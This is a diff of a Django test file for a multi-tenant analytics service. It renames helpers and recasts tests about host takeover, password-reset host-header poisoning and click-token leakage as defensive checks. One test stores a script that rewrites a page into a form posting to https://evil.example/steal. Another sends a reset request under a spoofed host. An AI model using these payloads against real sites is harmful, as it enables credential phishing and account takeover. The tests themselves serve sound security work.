@@ -16,9 +16,9 @@ from accounts.services import account_brand_set
 from links.models import Domain
 from sites.models import Site
 from sites.services import site_create
-from tests.support import asgi, prove_host
-from tests.support.endpoints import stored
-from tests.support.links import learn
+from tests.support import asgi, verify_host
+from tests.support.endpoints import list_stored_rows
+from tests.support.links import refresh_caches
 
 pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_links")]
 DASHBOARD, BRAND = "stats.saas.example", "stats.alice.example"
@@ -34,11 +34,11 @@ def mallory(charlie: User) -> Client:
 
 
 def log_in_page(host: str) -> asgi.Answer:
-    learn()
+    refresh_caches()
     return asgi.browser_request("/login", host=host)
 
 
-def test_a_tenant_takes_over_the_dashboards_own_host(
+def test_a_tenant_cannot_take_over_the_dashboards_host(
     alice: User, charlie: User, mallory: Client, settings: Any
 ) -> None:
     settings.BASE_URL, settings.LINK_DOMAIN = f"http://{DASHBOARD}", "go.saas.example"
@@ -56,9 +56,9 @@ def test_a_tenant_takes_over_the_dashboards_own_host(
     assert page.status == 200 and 'name="password"' in page.text
 
 
-def test_a_tenant_takes_over_anothers_white_label(account: Account, alice: User, mallory: Client) -> None:
+def test_a_tenant_cannot_take_over_another_accounts_white_label(account: Account, alice: User, mallory: Client) -> None:
     account_brand_set(account=account, host=BRAND, name="Alice Numbers")
-    prove_host(account, BRAND, Purpose.BRAND)
+    verify_host(account, BRAND, Purpose.BRAND)
     assert "Alice Numbers" in log_in_page(BRAND).text
     assert mallory.post("/links/domains", {"name": BRAND}).status_code == 302  # anybody may claim; nothing is verified
     assert "Alice Numbers" in log_in_page(BRAND).text
@@ -67,14 +67,14 @@ def test_a_tenant_takes_over_anothers_white_label(account: Account, alice: User,
     assert "Alice Numbers" in log_in_page(BRAND).text
 
 
-def test_a_reset_is_asked_for_at_a_host_that_somebody_only_says_is_his(alice: User, mallory: Client) -> None:
+def test_a_reset_requested_on_an_unverified_host_does_not_use_it(alice: User, mallory: Client) -> None:
     mallory.post("/account/brand", {"host": "evil-charlie.example", "name": "Footfall"})
     Client().post("/password/reset", {"email": alice.email}, headers={"host": "evil-charlie.example"})
     (letter,) = mail.outbox
     assert "evil-charlie" not in str(letter.message()) and "http://127.0.0.1:8000/password/reset/" in letter.body
 
 
-def test_a_name_is_registered_to_keep_it_from_its_owner(account: Account, alice: User, mallory: Client) -> None:
+def test_an_unverified_claim_does_not_block_the_hosts_owner(account: Account, alice: User, mallory: Client) -> None:
     mallory.post("/account/brand", {"host": BRAND})
     mallory.post("/links/domains", {"name": "go.alice.example"})
     mallory.post(f"/links/domains/{Domain.objects.get(name='go.alice.example').pk}/delete")
@@ -82,14 +82,14 @@ def test_a_name_is_registered_to_keep_it_from_its_owner(account: Account, alice:
     hers.force_login(alice)
     assert hers.post("/account/brand", {"host": BRAND, "name": "Alice Numbers"}).status_code == 302
     assert hers.post("/links/domains", {"name": "go.alice.example"}).status_code == 302
-    prove_host(account, BRAND, Purpose.BRAND)
+    verify_host(account, BRAND, Purpose.BRAND)
     assert "Alice Numbers" in log_in_page(BRAND).text
 
 
-def test_events_without_a_key_are_gathered_by_registering_a_name_first(charlie: User, site: Site) -> None:
+def test_events_without_a_key_do_not_go_to_an_unverified_site(charlie: User, site: Site) -> None:
     theirs = site_create(account=charlie.memberships.get().account, domain="future.example")
     also = site_create(account=charlie.memberships.get().account, domain="example.com")
-    learn()
+    refresh_caches()
 
     def sent(url: str) -> asgi.Answer:
         body = json.dumps({"url": url}).encode()
@@ -98,23 +98,25 @@ def test_events_without_a_key_are_gathered_by_registering_a_name_first(charlie: 
     assert sent("https://shop.future.example/secret-order").status == 401
     assert sent("https://future.example/secret-order").status == 401
     assert sent("https://www.example.com/order").status == 200
-    assert not stored(theirs.pk) and not stored(also.pk) and len(stored(site.pk)) == 1
+    assert not list_stored_rows(theirs.pk) and not list_stored_rows(also.pk) and len(list_stored_rows(site.pk)) == 1
 
 
-def test_the_word_of_a_click_goes_to_ones_own_sites_only(charlie: User, account: Account, alice: User) -> None:
+def test_a_click_token_is_only_added_to_the_accounts_own_sites(charlie: User, account: Account, alice: User) -> None:
     """Proved or not, since the link is one's own; never because somebody else has a site of that name."""
-    from tests.support.links import Browser, make
+    from tests.support.links import Browser, create_link
 
     site_create(account=charlie.memberships.get().account, domain="theirs.example")
-    prove_host(charlie.memberships.get().account, "theirs.example", Purpose.SITE)
+    verify_host(charlie.memberships.get().account, "theirs.example", Purpose.SITE)
     site_create(account=account, domain="mine.example", allowed_hosts=["pay.example"])
     for alias, url in (("a", "theirs.example"), ("b", "www.mine.example"), ("c", "pay.example"), ("d", "x.example")):
-        make(account, alias, url=f"https://{url}/")
+        create_link(account, alias, url=f"https://{url}/")
     led = {alias: "ffclid=" in Browser().open(f"/l/{alias}").location for alias in "abcd"}
     assert led == {"a": False, "b": True, "c": True, "d": False}
 
 
-def test_a_log_in_page_is_published_under_the_dashboards_host(account: Account, charlie: User, mallory: Client) -> None:
+def test_an_account_cannot_publish_a_page_on_the_dashboards_host(
+    account: Account, charlie: User, mallory: Client
+) -> None:
     script = "<script>document.body.innerHTML='<form method=post action=https://evil.example/steal>'</script>"
     mallory.post("/links/scripts", {"name": "s", "text": script})
     key = charlie.memberships.get().account.authkey
@@ -123,7 +125,7 @@ def test_a_log_in_page_is_published_under_the_dashboards_host(account: Account, 
         response = Client().post("/clickmeter/datapoints", json.dumps(link), content_type="application/json",
                              headers={"X-Clickmeter-Authkey": key})  # fmt: skip
         assert response.status_code == 200, response.content
-    learn()
+    refresh_caches()
     for name in ("login", "signin"):
         answer = asgi.browser_request(f"/l/{name}?{urlencode({'a': 1})}", host="127.0.0.1:8000")
         assert (answer.status, answer.body) == (301, b"") and answer.headers["location"].startswith("https://evil.")
